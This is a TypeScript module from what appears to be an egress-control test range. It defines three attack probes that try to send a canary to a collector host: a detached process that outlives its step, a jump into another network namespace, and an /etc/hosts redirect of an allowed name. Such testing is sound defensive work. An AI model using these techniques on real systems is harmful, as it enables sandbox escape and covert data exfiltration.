/** Tricks on the machine itself: a process that stays, another network namespace, the hosts file. */
import { spawn } from "node:child_process";
import dgram from "node:dgram";
import { appendFileSync, readFileSync } from "node:fs";
import { connect } from "node:tls";
import { codeOf, converse, request } from "../probe/fire.ts";
import { hostsMarker, type Fired, type Shot, type Technique } from "../technique.ts";

export const host: readonly Technique[] = [
  {
    id: "detached-process",
    name: "a process that sends after its step has ended",
    class: "T20",
    attack: ["T1543", "T1048.003"],
    incidents: [{ name: "axios", year: 2026 }],
    does: "Leaves a process in a session of its own, which posts the canary once its parent is gone.",
    works: "What was enforced around the step is over.",
    expected: "blocked",
    needs: [],
    channel: { kind: "tcp", port: 80 },
    probe: async (shot) => {
      if (shot.collector.v4 === null) return { fired: false, why: "the sink has no IPv4 address" };
      const child = spawn(process.execPath, ["-e", later, shot.collector.v4, shot.canary], {
        detached: true,
        stdio: "ignore",
      });
      await new Promise((resolve, reject) => child.once("spawn", resolve).once("error", reject));
      child.unref();
      return { fired: true, saw: "left behind" };
    },
  },
  {
    id: "leave-namespace",
    name: "into another network namespace",
    class: "T21",
    attack: ["T1611"],
    incidents: [{ name: "CVE-2025-32955 (published)", year: 2025 }],
    does: "Enters the range's outer network namespace as root would enter the host's, and sends from there.",
    works: "Root with CAP_SYS_ADMIN, or the Docker socket, has every namespace of the machine.",
    expected: "blocked",
    needs: ["range"],
    channel: { kind: "udp", port: 9100 },
    probe: (shot) => fromNamespace(shot),
  },
  {
    id: "hosts-file-edit",
    name: "an allowed name pointed elsewhere by the hosts file",
    class: "T21",
    attack: ["T1565.001", "T1036"],
    incidents: [],
    does: "Adds a line to /etc/hosts (in the range, a file of the range's own) and connects by the allowed name.",
    works: "Program and filter agree on the name, and only the address is the attacker's.",
    expected: "blocked",
    needs: ["tls-site", "range"],
    channel: { kind: "tcp", port: 443 },
    probe: (shot) => {
      const name = shot.site.tls!;
      // The real file is nobody's to edit: only one that says it is a range's.
      if (!readFileSync("/etc/hosts", "utf8").startsWith(hostsMarker)) {
        return Promise.resolve({ fired: false, why: "/etc/hosts is not the range's" });
      }
      appendFileSync("/etc/hosts", `${shot.collector.v4} ${name}\n`);
      const socket = connect({ host: name, port: 443, servername: name, rejectUnauthorized: false });
      return converse(socket, "secureConnect", [request(name, shot.canary)], shot.patience);
    },
  },
];

/** Sends once its parent is another process than at its start, or after three seconds. */
const later = `
  const [address, canary] = process.argv.slice(1);
  const parent = process.ppid;
  const begun = Date.now();
  const timer = setInterval(() => {
    if (process.ppid === parent && Date.now() - begun < 3000) return;
    clearInterval(timer);
    const socket = require("node:net").connect(80, address, () =>
      socket.end("POST /late HTTP/1.1\\r\\nHost: " + address + "\\r\\nContent-Length: " + canary.length + "\\r\\n\\r\\n" + canary));
    socket.on("error", () => {});
    socket.setTimeout(3000, () => socket.destroy());
  }, 20);`;

async function fromNamespace(shot: Shot): Promise<Fired> {
  const { inNamespace } = await import("../../kernel/namespace.ts");
  const { anyAddress, listenUdp } = await import("../../kernel/sockets.ts");
  let fd: number;
  try {
    fd = inNamespace(shot.range!.namespace, () => listenUdp(anyAddress(4), 0));
  } catch (error) {
    return { fired: true, saw: `setns ${codeOf(error)}` };
  }
  return new Promise((resolve) => {
    const socket = dgram.createSocket("udp4");
    socket.once("error", (error) => resolve({ fired: true, saw: codeOf(error) }));
    socket.bind({ fd }, () =>
      socket.send(shot.canary, 9100, shot.collector.v4!, (error) => {
        socket.close();
        resolve({ fired: true, saw: error === null ? "sent" : codeOf(error) });
      }),
    );
  });
}
